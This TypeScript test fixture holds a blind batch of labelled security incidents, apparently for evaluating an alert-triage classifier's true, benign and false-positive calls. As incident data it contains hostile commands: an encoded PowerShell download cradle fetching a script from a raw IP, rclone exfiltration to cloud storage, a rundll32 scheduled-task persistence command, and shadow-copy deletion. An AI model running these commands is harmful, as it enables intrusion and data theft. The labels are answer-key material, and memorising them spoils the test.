import { entity, makeAlert } from '../support/incidentBuilders';
import { at, host, incident, ip, mailbox, proc, serviceAccount, user, type LabelledIncident } from './incidentCases';

/**
 * Batch 7 (final blind, 13 = 5 TP / 4 BP / 4 FP): written after the last code change of the
 * structural rework and run exactly once. Its figure is the honest generalisation estimate.
 */
const HOSTING = { countryCode: 'NL', countryName: 'Netherlands', city: 'Amsterdam', asn: 64540, organizationType: 'Hosting' };
const GOOGLE = { countryCode: 'US', countryName: 'United States', city: 'Mountain View', asn: 15169, organization: 'Google LLC' };
const AZURE_WEU = { countryCode: 'NL', countryName: 'Netherlands', city: 'Amsterdam', asn: 8075, organization: 'Microsoft Corporation', organizationType: 'Hosting' };
const OFFICE_MADRID = { countryCode: 'ES', countryName: 'Spain', city: 'Madrid', asn: 64541, organization: 'Contoso Iberia' };
const QUALYS = { countryCode: 'US', countryName: 'United States', city: 'Foster City', asn: 64542, organization: 'Qualys, Inc.' };
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

export const FINAL7_INCIDENT_CASES: LabelledIncident[] = [
  {
    id: 'f7-excel-encoded-cradle',
    label: 'TRUE_POSITIVE',
    why: 'Excel spawns hidden encoded PowerShell that downloads and runs a payload from a raw IP.',
    incident: incident(
      'Office application spawned PowerShell on CONTOSO-WS-2790',
      'HIGH',
      [makeAlert({ displayName: 'Suspicious process launched by an Office application', description: 'EXCEL.EXE started powershell.exe with a hidden window and an encoded command on CONTOSO-WS-2790 after "Remittance_0611.xlsm" was opened.', severity: 'HIGH', tactics: ['Execution'], techniques: ['T1059.001', 'T1204.002'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-2790'), user('n.alvarez', 'Nora Alvarez', true), proc('powershell.exe', `powershell.exe -w hidden -nop -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.61/r.ps1')")}`), ip('203.0.113.61', HOSTING)],
    ),
  },
  {
    id: 'f7-domain-admin-added-no-request',
    label: 'TRUE_POSITIVE',
    why: 'A help-desk account adds a normal user to Domain Admins late at night without any request, and the user then logs on to a DC from an unknown workstation.',
    incident: incident(
      'User added to Domain Admins',
      'HIGH',
      [
        makeAlert({ displayName: 'Member added to a sensitive group', description: 'hd-ops02 added s.kline to Domain Admins at 23:41.', productName: 'Microsoft Defender for Identity', severity: 'HIGH', tactics: ['PrivilegeEscalation', 'Persistence'], techniques: ['T1098'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Logon to a domain controller from an unusual device', description: 's.kline logged on interactively to CONTOSO-DC-01 from CONTOSO-WS-4409, never seen for this account.', productName: 'Microsoft Defender for Identity', tactics: ['LateralMovement'], techniques: ['T1021.001'], timeGenerated: at(12) }),
      ],
      [user('hd-ops02', 'Helpdesk Ops 02', true), user('s.kline', 'Sam Kline', true), host('CONTOSO-DC-01', 'Windows Server 2022'), host('CONTOSO-WS-4409')],
      { comments: ['Nobody on the help desk raised this; hd-ops02 is a shared account. Removed membership, escalating.'] },
    ),
  },
  {
    id: 'f7-rclone-exfil',
    label: 'TRUE_POSITIVE',
    why: 'rclone renamed as svchost copies the finance share to a cloud storage provider from a file server.',
    incident: incident(
      'Possible data exfiltration from CONTOSO-FS-01',
      'HIGH',
      [
        makeAlert({ displayName: 'Renamed rclone execution', description: 'C:\\ProgramData\\svchost.exe (original file name rclone.exe) ran on CONTOSO-FS-01.', severity: 'MEDIUM', tactics: ['DefenseEvasion'], techniques: ['T1036.003'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Large upload to a cloud storage service', description: 'CONTOSO-FS-01 sent 212 GB to a mega.nz endpoint within 4 hours.', severity: 'HIGH', tactics: ['Exfiltration'], techniques: ['T1567.002'], timeGenerated: at(20) }),
      ],
      [host('CONTOSO-FS-01', 'Windows Server 2019'), proc('svchost.exe', 'C:\\ProgramData\\svchost.exe copy \\\\CONTOSO-FS-01\\finance mega:bkp --transfers 16 -q')],
    ),
  },
  {
    id: 'f7-spray-then-mailbox',
    label: 'TRUE_POSITIVE',
    why: 'A password spray from a hosting address succeeds for one account, which is then used to read mail from the same address.',
    incident: incident(
      'Password spray and mailbox access from 198.51.100.90',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Password spray', description: '1,180 failed sign-ins against 590 accounts from 198.51.100.90; one sign-in for o.mensah@contoso.example succeeded.', productName: 'Microsoft Entra ID Protection', tactics: ['CredentialAccess'], techniques: ['T1110.003'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious mailbox access', description: 'o.mensah@contoso.example mailbox was accessed via IMAP from 198.51.100.90; 380 items read.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1114.002'], timeGenerated: at(25) }),
      ],
      [user('o.mensah', 'Owen Mensah'), mailbox('o.mensah@contoso.example', 'Owen Mensah'), ip('198.51.100.90', HOSTING)],
    ),
  },
  {
    id: 'f7-appdata-task-dll',
    label: 'TRUE_POSITIVE',
    why: 'A scheduled task that runs a DLL from the user profile via rundll32 every 15 minutes, created right after a downloaded document was opened.',
    incident: incident(
      'Suspicious scheduled task on CONTOSO-WS-1935',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious scheduled task creation', description: 'WINWORD.EXE child process created task "OneDriveUpdateCheck" running rundll32.exe on a DLL in AppData every 15 minutes.', tactics: ['Persistence', 'Execution'], techniques: ['T1053.005', 'T1218.011'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1935'), user('v.rossi', 'Valentina Rossi', true), proc('schtasks.exe', 'schtasks /create /sc minute /mo 15 /tn OneDriveUpdateCheck /tr "rundll32.exe C:\\Users\\v.rossi\\AppData\\Roaming\\odu.dll,Start"')],
    ),
  },
  {
    id: 'f7-intune-remediation',
    label: 'BENIGN_POSITIVE',
    why: 'The Intune management extension runs a bypass-policy remediation script as SYSTEM on many managed devices.',
    incident: incident(
      'PowerShell with execution policy bypass on 412 devices',
      'LOW',
      [makeAlert({ displayName: 'Suspicious PowerShell execution policy bypass', description: 'AgentExecutor.exe launched powershell.exe -ExecutionPolicy Bypass on 412 devices within an hour.', severity: 'LOW', tactics: ['Execution', 'DefenseEvasion'], techniques: ['T1059.001'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-2010'), entity('Account', 'SYSTEM', { accountName: 'SYSTEM', ntDomain: 'NT AUTHORITY' }), proc('powershell.exe', 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\detect_bitlocker.ps1"')],
    ),
  },
  {
    id: 'f7-dba-migration-export',
    label: 'BENIGN_POSITIVE',
    why: 'The DBA admin account bulk-exports tables on the database server during a labelled, planned migration.',
    incident: incident(
      'Large data export from CONTOSO-SQL-04',
      'MEDIUM',
      [makeAlert({ displayName: 'Unusual volume of data read from database', description: 'adm-lchen exported 41 million rows with bcp.exe on CONTOSO-SQL-04 between 02:00 and 02:50.', productName: 'Microsoft Sentinel', tactics: ['Collection', 'Exfiltration'], techniques: ['T1005'], timeGenerated: at(-360) })],
      [serviceAccount('adm-lchen'), host('CONTOSO-SQL-04', 'Windows Server 2022'), proc('bcp.exe', 'bcp.exe "SELECT * FROM Sales.Orders" queryout E:\\migration\\orders.dat -T -n')],
      { labels: ['Planned migration - SQL04 to SQL09'] },
    ),
  },
  {
    id: 'f7-qualys-external-waf',
    label: 'BENIGN_POSITIVE',
    why: "The injection attempts come from the company's contracted external scanning service against its own site, blocked by the WAF.",
    incident: incident(
      'SQL injection attempts against shop.contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'SQL injection attempts detected', description: 'The WAF blocked 3,400 requests with SQL injection payloads to shop.contoso.example from 192.0.2.240; none reached the backend.', productName: 'Azure Web Application Firewall', tactics: ['InitialAccess'], techniques: ['T1190'], timeGenerated: at(0) })],
      [ip('192.0.2.240', QUALYS), entity('Url', 'https://shop.contoso.example/search', { url: 'https://shop.contoso.example/search' })],
      { comments: ['Source is the Qualys WAS scanner appliance; our monthly external web app scan started at 08:00 today.'] },
    ),
  },
  {
    id: 'f7-backup-vss-oldest',
    label: 'BENIGN_POSITIVE',
    why: 'The backup service account deletes the oldest shadow copy on the backup target during its nightly job, which is how it manages space.',
    incident: incident(
      'Shadow copy deletion on CONTOSO-BKP-02',
      'HIGH',
      [makeAlert({ displayName: 'Shadow copy deletion', description: 'vssadmin.exe delete shadows /for=E: /oldest /quiet was run on CONTOSO-BKP-02 by svc-backup at 03:04.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1490'], timeGenerated: at(-296) })],
      [host('CONTOSO-BKP-02', 'Windows Server 2022'), serviceAccount('svc-backup'), proc('vssadmin.exe', 'vssadmin.exe delete shadows /for=E: /oldest /quiet', true)],
    ),
  },
  {
    id: 'f7-ti-google-dns',
    label: 'FALSE_POSITIVE',
    why: "A threat-intelligence entry lists Google's public resolver; the DNS servers forward to it all day.",
    incident: incident(
      'Traffic to a known malicious IP from DNS servers',
      'MEDIUM',
      [makeAlert({ displayName: 'Connection to a known malicious IP (TI map)', description: 'CONTOSO-DNS-01 and CONTOSO-DNS-02 sent UDP/53 traffic to 198.51.100.8, listed in a threat-intelligence feed added this week.', productName: 'Microsoft Sentinel', tactics: ['CommandAndControl'], techniques: ['T1071.004'], timeGenerated: at(0) })],
      [host('CONTOSO-DNS-01', 'Windows Server 2022'), host('CONTOSO-DNS-02', 'Windows Server 2022'), ip('198.51.100.8', GOOGLE)],
    ),
  },
  {
    id: 'f7-travel-avd-host',
    label: 'FALSE_POSITIVE',
    why: "The 'travel' is the user's Azure Virtual Desktop session host in West Europe signing in on her behalf while she sits in Madrid.",
    incident: incident(
      'Impossible travel activity for i.garcia@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Impossible travel activity', description: 'i.garcia@contoso.example signed in from Madrid (192.0.2.33) and 5 minutes later from Amsterdam (203.0.113.175).', productName: 'Microsoft Defender for Cloud Apps', tactics: ['InitialAccess'], techniques: ['T1078'], timeGenerated: at(0) })],
      [user('i.garcia', 'Isabel Garcia'), ip('192.0.2.33', OFFICE_MADRID), ip('203.0.113.175', AZURE_WEU)],
      { comments: ['Second IP is our AVD host pool in West Europe.'] },
    ),
  },
  {
    id: 'f7-chrome-hash-feed',
    label: 'FALSE_POSITIVE',
    why: 'A hash feed entry matches the current Google-signed Chrome build on dozens of devices.',
    incident: incident(
      'File hash indicator match: chrome.exe',
      'MEDIUM',
      [makeAlert({ displayName: 'Malicious file hash match', description: 'chrome.exe version 126.0.6478.127 (signed by Google LLC) on 57 devices matches a SHA256 indicator in the "community-malware" feed.', productName: 'Microsoft Sentinel', tactics: ['Execution'], techniques: ['T1204.002'], timeGenerated: at(0) })],
      [entity('FileHash', 'b4e1c2d9a7f3e5b1c8d2a6f4e9b3c7d1a5f2e8b4c6d9a3f7e1b5c2d8a4f6e9b3', { algorithm: 'SHA256', value: 'b4e1c2d9a7f3e5b1c8d2a6f4e9b3c7d1a5f2e8b4c6d9a3f7e1b5c2d8a4f6e9b3' }), host('CONTOSO-WS-0577')],
    ),
  },
  {
    id: 'f7-dlp-test-card-numbers',
    label: 'FALSE_POSITIVE',
    why: 'The "card numbers" uploaded are the standard payment-network test numbers in a unit-test fixture.',
    incident: incident(
      'Credit card numbers uploaded to github.com',
      'MEDIUM',
      [makeAlert({ displayName: 'Sensitive information uploaded to an unsanctioned site', description: 'd.yilmaz uploaded payments_test.py containing 12 credit card numbers to github.com.', productName: 'Microsoft Purview Data Loss Prevention', tactics: ['Exfiltration'], techniques: ['T1567'], timeGenerated: at(0) })],
      [user('d.yilmaz', 'Deniz Yilmaz'), host('CONTOSO-DEV-0221')],
      { comments: ['Every number in the file is 4111 1111 1111 1111 / 5555 5555 5555 4444 style test PANs. Not real cardholder data.'] },
    ),
  },
];
